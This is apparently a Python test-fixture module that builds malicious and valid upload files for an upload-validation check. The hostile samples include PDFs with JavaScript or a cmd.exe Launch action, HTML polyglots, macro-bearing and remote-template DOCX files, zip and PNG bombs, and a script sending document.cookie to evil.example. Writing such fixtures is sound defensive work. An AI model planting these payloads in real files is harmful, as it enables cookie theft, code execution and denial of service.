"""Hostile and valid files built for real (pikepdf, zipfile, Pillow), for the upload checks (issue 17)."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

from tests.factories import office_bytes, pdf_bytes, png_bytes

# A minimal Windows program header: the DOS stub's pointer at 0x3C leads to "PE\0\0".
PE = b"MZ" + b"\x90" * 0x3A + struct.pack("<I", 0x80) + b"\x00" * (0x80 - 0x40) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 300
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200


def pdf(modify=None, **save) -> bytes:
    """A real one-page PDF made by pikepdf, changed by `modify(pdf)` before saving."""
    document = pikepdf.new()
    document.add_blank_page()
    if modify:
        modify(document)
    out = io.BytesIO()
    document.save(out, static_id=True, **save)
    return out.getvalue()


def _open_action_js(document):
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('pwned')")))


def _page_aa_js(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.submitForm('https://x.example')")))


def _js_name_tree(document):
    script = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1")))
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("s"), script]))


def _launch(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("C:\\Windows\\System32\\cmd.exe")))


def _attach(name: str, data: bytes):
    def modify(document):
        document.attachments[name] = pikepdf.AttachedFileSpec(document, data, filename=name)
    return modify


def pdf_open_action_js() -> bytes:
    return pdf(_open_action_js)


def pdf_page_aa_js() -> bytes:
    return pdf(_page_aa_js)


def pdf_js_name_tree() -> bytes:
    return pdf(_js_name_tree)


def pdf_js_hex_escaped_name() -> bytes:
    """/JS written as /#4A#53: a byte search misses it, a parser does not. The xref offsets
    shift by four bytes, which qpdf repairs as a reader would."""
    return pdf_open_action_js().replace(b"/JS ", b"/#4A#53 ", 1)


def pdf_launch() -> bytes:
    return pdf(_launch)


def pdf_with_exe_attachment() -> bytes:
    """A program attached under an innocent name (compressed by pikepdf)."""
    return pdf(_attach("invoice.pdf", PE))


def pdf_with_exe_named_attachment() -> bytes:
    return pdf(_attach("setup.exe", b"just text, but named like a program"))


def pdf_with_csv_attachment() -> bytes:
    return pdf(_attach("inputs.csv", b"name,source\nlactate,LIS\n"))


def pdf_encrypted() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user="user"))


def pdf_with_owner_password_only() -> bytes:
    """Opens without a password; the owner password only restricts editing (a vendor's letter)."""
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=""))


def polyglot_pdf_exe() -> bytes:
    return b"%PDF-1.4\n" + PE


def polyglot_pdf_html() -> bytes:
    return b"%PDF-1.4\n<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"


def pdf_then_html() -> bytes:
    """A valid PDF with an HTML page after its %%EOF."""
    return pdf_bytes() + b"<html><script>alert(1)</script></html>\n"


def zipped(entries: dict[str, bytes], content_types: str, *, deflate: bool = True) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _types(*overrides: tuple[str, str]) -> str:
    body = "".join(f'<Override PartName="{part}" ContentType="{ct}"/>' for part, ct in overrides)
    return ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="bin" ContentType="application/octet-stream"/>{body}</Types>')


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx_with_vba_project() -> bytes:
    """A DOCX that declares itself macro-free but carries a VBA project."""
    return zipped({"word/document.xml": b"<w:document/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 64},
                  _types(("/word/document.xml", DOCX_MAIN)))


def docm_renamed_docx() -> bytes:
    return zipped({"word/document.xml": b"<w:document/>"}, _types(("/word/document.xml", DOCM_MAIN)))


def docx_without_main_part() -> bytes:
    return zipped({"word/styles.xml": b"<w:styles/>"}, _types(("/word/document.xml", DOCX_MAIN)))


def docx_with_embedded_exe() -> bytes:
    return zipped({"word/document.xml": b"<w:document/>", "word/embeddings/oleObject1.bin": b"\xd0\xcf" + PE},
                  _types(("/word/document.xml", DOCX_MAIN)))


def docx_with_remote_template() -> bytes:
    rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    return zipped({"word/document.xml": b"<w:document/>", "word/_rels/settings.xml.rels": rels},
                  _types(("/word/document.xml", DOCX_MAIN)))


def docx_with_many_entries(count: int) -> bytes:
    return zipped({"word/document.xml": b"<w:document/>", **{f"word/media/i{i}.png": b"x" for i in range(count)}},
                  _types(("/word/document.xml", DOCX_MAIN)))


def docx_bomb(megabytes: int) -> bytes:
    """`megabytes` MB of zeros in one deflated part (about 1,000 times smaller zipped)."""
    return zipped({"word/document.xml": b"<w:document/>" + b" " * (megabytes * 1_048_576)},
                  _types(("/word/document.xml", DOCX_MAIN)))


def real_xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["name", "source_system"])
    book.active.append(["lactate_last_6h", "LIS"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def real_docx() -> bytes:
    return office_bytes("word")


def real_jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 16), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


def truncated_png() -> bytes:
    """A 64×64 PNG cut inside its pixel data."""
    out = io.BytesIO()
    Image.frombytes("L", (64, 64), bytes(range(256)) * 16).save(out, "PNG")
    data = out.getvalue()
    return data[: len(data) // 2]


def truncated_jpeg() -> bytes:
    out = io.BytesIO()
    Image.frombytes("L", (64, 64), bytes(range(256)) * 16).save(out, "JPEG")
    data = out.getvalue()
    return data[: len(data) // 2]


def png_bomb() -> bytes:
    """A PNG whose header claims 40,000 × 40,000 pixels (1.6 billion) with almost no data."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 40_000, 40_000, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
            + chunk(b"IEND", b""))


def png_then_exe() -> bytes:
    return png_bytes() + PE


def text_with_late_script() -> bytes:
    """3 KB of honest notes, then a script (the old check read only the first 2 KB)."""
    notes = ("Drill minutes, 5 West. Paper checklist used for every decision; no gaps found.\n" * 40).encode()
    assert len(notes) > 3072
    return notes + b"<ScRiPt>fetch('https://evil.example/?c='+document.cookie)</script>\n"
